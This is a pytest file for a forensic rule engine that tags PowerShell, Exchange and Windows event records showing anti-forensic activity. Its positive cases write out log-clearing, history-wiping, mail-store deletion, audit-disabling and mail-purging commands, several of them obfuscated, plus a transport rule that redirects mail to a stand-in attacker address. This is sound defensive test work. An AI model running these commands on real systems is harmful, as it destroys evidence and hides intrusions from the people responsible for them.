"""PowerShell/Exchange rules: each rule fires on what it names (also obfuscated) and not on look-alikes.

Records are built in memory with the data types and attributes the EVTX parser (and the PSReadLine
history parser) emit, then tagged by the one rule engine.
"""

from __future__ import annotations

import base64

import pytest

from parsers.record import Provenance, Record
from parsers.rules import default_engine
from parsers.rules.powershell import canonical_command, read_script, resolve_parameter

PROV = Provenance(bundle_path=None, source_path="C:/Windows/System32/winevt/Logs/x.evtx", sha256=None)


def _record(text: str, data_type: str = "windows:evtx:powershell:scriptblock") -> Record:
    key = "script_block" if data_type.endswith("scriptblock") else "command"
    return Record(data_type=data_type, message=text[:80], provenance=PROV, parser="evtx", order=0,
                  attributes={key: text})


def _rules(text: str, data_type: str = "windows:evtx:powershell:scriptblock") -> set[str]:
    tagged = default_engine().tag(_record(text, data_type))
    return {t for t in tagged.tags if not t.startswith("T1")}


def _enc(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


POSITIVE = [
    # rule id, text
    ("exchange_export_request_removed",
     "Remove-MailboxExportRequest -Identity 'bob\\MailboxExport' -Confirm:$false"),
    ("exchange_export_request_removed",
     "Get-MailboxExportRequest | Re`move-Mail`boxExportRequest -Confirm:$false"),
    ("exchange_export_request_removed", "& ('Remove-Mail'+'boxExportRequest') -Identity bob"),
    ("exchange_export_request_removed", "&(\"{1}{0}\" -f 'boxExportRequest','Remove-Mail') bob"),
    ("exchange_export_request_removed",
     "Microsoft.Exchange.Management.PowerShell.E2010\\REMOVE-MAILBOXEXPORTREQUEST x"),
    ("exchange_export_request_created",
     "New-MailboxExportRequest -Mailbox bob -FilePath \\\\srv\\c$\\bob.pst"),
    ("exchange_search_mailbox_delete",
     "Search-Mailbox -Identity bob -SearchQuery 'subject:invoice' -DeleteContent -Force"),
    ("exchange_search_mailbox_delete", "Search-Mailbox bob -SearchQuery x -DeleteCont -Force"),
    ("exchange_search_mailbox_delete", "Get-Mailbox | Search-Mailbox -Del -Force"),
    ("exchange_compliance_purge", "New-ComplianceSearchAction -SearchName 'x' -Purge -PurgeType HardDelete"),
    ("exchange_compliance_purge", "New-ComplianceSearchAction -SearchName x -Purge -PurgeType SoftDelete"),
    ("exchange_mailbox_search_removed", "Remove-MailboxSearch -Identity 'Legal hold 1'"),
    ("exchange_transport_rule_hides_mail", "New-TransportRule -Name x -From ceo@corp -DeleteMessage $true"),
    ("exchange_transport_rule_hides_mail", "Set-TransportRule x -RemoveHeader X-Origin"),
    ("exchange_transport_rule_hides_mail",
     "New-TransportRule x -SetHeaderName X-MS-Exchange-Organization-SkipSafeLinksProcessing -SetHeaderV 1"),
    ("exchange_transport_rule_hides_mail",
     "New-TransportRule -Name x -SetSCL -1 -SenderDomainIs evil.example"),
    ("exchange_transport_rule_redirect", "New-TransportRule -Name x -RedirectMessageTo spy@evil.example"),
    ("exchange_inbox_rule_hides_mail",
     "New-InboxRule -Mailbox bob -Name x -SubjectContainsWords invoice -DeleteMessage $true"),
    ("exchange_inbox_rule_hides_mail", "Set-InboxRule x -MoveToFolder 'bob:\\Deleted Items'"),
    ("exchange_inbox_rule_hides_mail",
     "New-InboxRule x -From it@corp -MoveToFolder \"RSS Feeds\" -MarkAsRead $true"),
    ("exchange_mailbox_audit_disabled", "Set-Mailbox -Identity bob -AuditEnabled $false"),
    ("exchange_mailbox_audit_disabled", "Set-Mailbox bob -AuditEnabled:$False"),
    ("exchange_mailbox_audit_disabled", "Set-AdminAuditLogConfig -AdminAuditLogEnabled $false"),
    ("exchange_mailbox_audit_disabled",
     "Set-MailboxAuditBypassAssociation -Identity svc -AuditBypassEnabled $true"),
    ("powershell_mail_store_removed",
     "Remove-Item -Recurse -Force \"$env:LOCALAPPDATA\\Comms\\Unistore\\data\""),
    ("powershell_mail_store_removed", "ri $env:LOCALAPPDATA\\Comms\\UnistoreDB -r"),
    ("powershell_mail_store_removed", "$u=\"$env:LOCALAPPDATA\\Comms\\Unistore\";ri $u -r -fo"),
    ("powershell_mail_store_removed", "del 'C:\\Users\\bob\\Documents\\Outlook Files\\bob@corp.pst'"),
    ("powershell_mail_store_removed", "rm -r $env:APPDATA\\Thunderbird\\Profiles\\x.default\\Mail"),
    ("powershell_mail_store_removed", "Remove-Item ~/Library/Mail/V10 -Recurse"),
    ("powershell_mail_store_removed",
     "$p = \"$env:LOCALAPPDATA\\Microsoft\\Outlook\"; Remove-Item $p -Recurse"),
    ("powershell_mail_store_removed",
     "Get-ChildItem $env:LOCALAPPDATA\\Comms\\Unistore -Recurse | Remove-Item -Force"),
    ("powershell_mail_store_removed",
     "cmd.exe /c \"rd /s /q C:\\Users\\bob\\AppData\\Local\\Comms\\Unistore\""),
    ("powershell_mail_store_removed",
     "c^m^d /c d^el /f /q C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob.ost"),
    ("windows_log_clear_command", "wevtutil cl Security"),
    ("windows_log_clear_command", "C:\\Windows\\System32\\wevtutil.exe clear-log \"Windows PowerShell\""),
    ("windows_log_clear_command", "Clear-EventLog -LogName Security,System"),
    ("windows_log_clear_command", "Remove-EventLog -LogName 'MSExchange Management'"),
    ("windows_log_clear_command",
     "Get-WmiObject Win32_NTEventlogFile | ForEach-Object { $_.ClearEventLog() }"),
    ("windows_log_clear_command", "wmic nteventlog where filename='security' call cleareventlog"),
    ("windows_log_clear_command",
     "powershell -nop -w hidden -enc " + _enc("Clear-EventLog -LogName Security")),
    ("windows_log_clear_command",
     "[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')"),
    ("powershell_history_tampering", "Clear-History"),
    ("powershell_history_tampering", "clhy"),
    ("powershell_history_tampering", "Set-PSReadlineOption -HistorySaveStyle SaveNothing"),
    ("powershell_history_tampering", "Set-PSReadLineOption -HistorySaveSt SaveNothing"),
    ("powershell_history_tampering", "Remove-Item (Get-PSReadlineOption).HistorySavePath"),
    ("powershell_history_tampering",
     "del $env:APPDATA\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt"),
    ("powershell_history_tampering", "('Clear-'+'History') | iex"),
    ("powershell_history_tampering", "& ($ShellId[1]+$ShellId[13]+'x') ('Clear-His'+'tory')"),
]

NEGATIVE = [
    ("exchange_export_request_removed", "Get-MailboxExportRequest | Format-List"),
    ("exchange_export_request_removed", "# Remove-MailboxExportRequest is not run here\nGet-Mailbox"),
    ("exchange_export_request_removed", "Write-Host 'Remove-MailboxExportRequest'"),
    ("exchange_export_request_created", "Get-MailboxExportRequestStatistics x"),
    ("exchange_search_mailbox_delete", "Search-Mailbox -Identity bob -SearchQuery x -EstimateResultOnly"),
    ("exchange_search_mailbox_delete", "Search-Mailbox bob -De -Force"),  # ambiguous: DeleteContent/Debug
    ("exchange_search_mailbox_delete", "Search-Mailbox bob -TargetMailbox disc -TargetFolder x -LogOnly"),
    ("exchange_compliance_purge", "New-ComplianceSearchAction -SearchName x -Preview"),
    ("exchange_mailbox_search_removed", "New-MailboxSearch -Name x"),
    ("exchange_transport_rule_hides_mail", "New-TransportRule -Name x -SetSCL 5 -PrependSubject '[ext]'"),
    ("exchange_transport_rule_hides_mail", "Get-TransportRule | Format-Table Name,DeleteMessage"),
    ("exchange_transport_rule_redirect", "New-TransportRule -Name x -BlindCopyTo audit@corp"),
    ("exchange_inbox_rule_hides_mail", "New-InboxRule x -MoveToFolder 'bob:\\Projects' -From pm@corp"),
    ("exchange_inbox_rule_hides_mail", "New-InboxRule x -From a@b -DeleteMessage $false"),
    ("exchange_mailbox_audit_disabled", "Set-Mailbox -Identity bob -AuditEnabled $true"),
    ("exchange_mailbox_audit_disabled", "Set-AdminAuditLogConfig -AdminAuditLogEnabled $true"),
    ("exchange_mailbox_audit_disabled", "Get-MailboxAuditBypassAssociation svc"),
    ("exchange_mailbox_audit_disabled",
     "Set-MailboxAuditBypassAssociation -Identity svc -AuditBypassEnabled $false"),
    ("powershell_mail_store_removed", "Remove-Item C:\\Temp\\build -Recurse"),
    ("powershell_mail_store_removed", "Get-ChildItem $env:LOCALAPPDATA\\Comms\\Unistore -Recurse"),
    ("powershell_mail_store_removed", "Copy-Item $env:LOCALAPPDATA\\Comms\\Unistore C:\\backup -Recurse"),
    ("powershell_mail_store_removed", "cmd /c dir C:\\Users\\bob\\AppData\\Local\\Comms\\Unistore"),
    ("windows_log_clear_command", "wevtutil qe Security /c:5"),
    ("windows_log_clear_command", "Get-EventLog -LogName Security -Newest 5"),
    ("windows_log_clear_command", "Write-Output 'wevtutil cl Security'"),
    ("powershell_history_tampering", "Get-History"),
    ("powershell_history_tampering", "Set-PSReadlineOption -HistorySaveStyle SaveIncrementally"),
    ("powershell_history_tampering", "Get-Content (Get-PSReadlineOption).HistorySavePath"),
]


@pytest.mark.parametrize(("rule", "text"), POSITIVE)
def test_rule_fires(rule: str, text: str) -> None:
    assert rule in _rules(text)


@pytest.mark.parametrize(("rule", "text"), NEGATIVE)
def test_rule_does_not_fire(rule: str, text: str) -> None:
    assert rule not in _rules(text)


def test_every_powershell_rule_has_a_positive_and_a_negative_case() -> None:
    ids = {r.id for r in default_engine().rules if "powershell_any" in r.match
           and any(t.startswith("shell:powershell:") for t in r.data_types)}
    assert ids <= {rule for rule, _ in POSITIVE}
    assert ids <= {rule for rule, _ in NEGATIVE}


@pytest.mark.parametrize("data_type", [
    "windows:evtx:powershell:module", "windows:evtx:powershell:engine", "windows:evtx:exchange:cmdlet",
    "windows:evtx:security:process_creation", "windows:evtx:sysmon:process_creation",
    "shell:powershell:command"])
def test_rules_read_the_command_attribute_of_every_source(data_type: str) -> None:
    """4103/800 invocations, Exchange cmdlet events, 4688/Sysmon command lines and PSReadLine."""
    assert "exchange_search_mailbox_delete" in _rules(
        "Search-Mailbox -Identity 'bob' -DeleteContent 'True' -Force 'True'", data_type)


def test_exchange_event_parameters_quoted_false() -> None:
    """MSExchange Management logs every value quoted: -AuditEnabled "False"."""
    assert "exchange_mailbox_audit_disabled" in _rules(
        'Set-Mailbox -Identity "bob" -AuditEnabled "False"', "windows:evtx:exchange:cmdlet")


def test_tags_carry_technique_and_severity() -> None:
    tagged = default_engine().tag(_record("Search-Mailbox bob -DeleteContent -Force"))
    assert "T1070.008" in tagged.tags
    assert tagged.attributes["severity"] == "critical"
    assert any("exchange_search_mailbox_delete" in hit for hit in tagged.attributes["rule_hits"])


def test_rules_ignore_unrelated_data_types() -> None:
    record = _record("Clear-History", "windows:evtx:record")
    assert default_engine().tag(record).tags == ()


def test_log_cleared_events_by_fields() -> None:
    for event_id, channel, data_type, rule in (
            (1102, "Security", "windows:evtx:security:log_cleared", "windows_security_log_cleared"),
            (104, "System", "windows:evtx:system:log_cleared", "windows_system_log_cleared")):
        record = Record(data_type=data_type, message="cleared", provenance=PROV, parser="evtx", order=0,
                        attributes={"event_id": event_id, "channel": channel})
        tagged = default_engine().tag(record)
        assert rule in tagged.tags and "T1070.001" in tagged.tags


def test_wmi_activity_clear_event_log() -> None:
    record = Record(data_type="windows:evtx:wmi:activity", message="x", provenance=PROV, parser="evtx",
                    order=0, attributes={"command": "Start IWbemServices::ExecMethod - root\\cimv2 : "
                                                    "Win32_NTEventlogFile.Name=\"Security\"::ClearEventLog"})
    assert "windows_wmi_clear_event_log" in default_engine().tag(record).tags


def test_object_access_delete_on_mail_store() -> None:
    def tags(mask: str, name: str) -> tuple[str, ...]:
        record = Record(data_type="windows:evtx:security:object_access", message="x", provenance=PROV,
                        parser="evtx", order=0, attributes={"AccessMask": mask, "ObjectName": name})
        return default_engine().tag(record).tags
    ost = "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@corp.ost"
    assert "windows_mail_store_delete_access" in tags("0x10000", ost)
    assert "windows_mail_store_delete_access" not in tags("0x1", ost)
    assert "windows_mail_store_delete_access" not in tags("0x10000", "C:\\Temp\\x.txt")


def test_sysmon_file_delete_on_mail_store() -> None:
    record = Record(data_type="windows:evtx:sysmon:file_delete", message="x", provenance=PROV, parser="evtx",
                    order=0,
                    attributes={"TargetFilename": "C:\\Users\\bob\\AppData\\Local\\Comms\\Unistore\\x.dat"})
    assert "windows_mail_store_file_deleted" in default_engine().tag(record).tags


# -- the normaliser itself ------------------------------------------------------------------------
def test_aliases_and_qualifiers() -> None:
    assert canonical_command("DEL") == "remove-item"
    assert canonical_command("C:\\Windows\\System32\\wevtutil.exe") == "wevtutil"
    assert canonical_command("Microsoft.PowerShell.Management\\Remove-Item") == "remove-item"


def test_parameter_prefixes() -> None:
    assert resolve_parameter("search-mailbox", "DeleteCont") == "deletecontent"
    assert resolve_parameter("search-mailbox", "de") is None  # DeleteContent or Debug
    assert resolve_parameter("new-compliancesearchaction", "Purge") == "purge"  # exact beats PurgeType
    assert resolve_parameter("remove-item", "LP") == "literalpath"
    assert resolve_parameter("unknown-cmdlet", "Foo") == "foo"


def test_encoded_command_and_cmd_wrapper() -> None:
    script = read_script("powershell.exe -NoP -NonI -W Hidden -EncodedCommand "
                         + _enc("Remove-MailboxSearch x"))
    assert "remove-mailboxsearch" in [i.name for i in script.invocations]
    script = read_script('cmd /c "wevtutil cl System"')
    assert ("wevtutil", ("cl", "System")) in [(i.name, i.args) for i in script.invocations]


def test_string_folding() -> None:
    names = [i.name for i in read_script("iex (('Clear-'+'His'+'tory') -replace 'His','His')").invocations]
    assert "clear-history" in names
    names = [i.name for i in read_script("-join ('Clear','-History') | iex").invocations]
    assert "clear-history" in names


def test_odd_input_never_raises() -> None:
    for text in ("'unterminated", '"open ` ', "((((", "}}}) ;;; |", "`", "-f", "& ", "\x00\x01", "(" * 500):
        read_script(text)
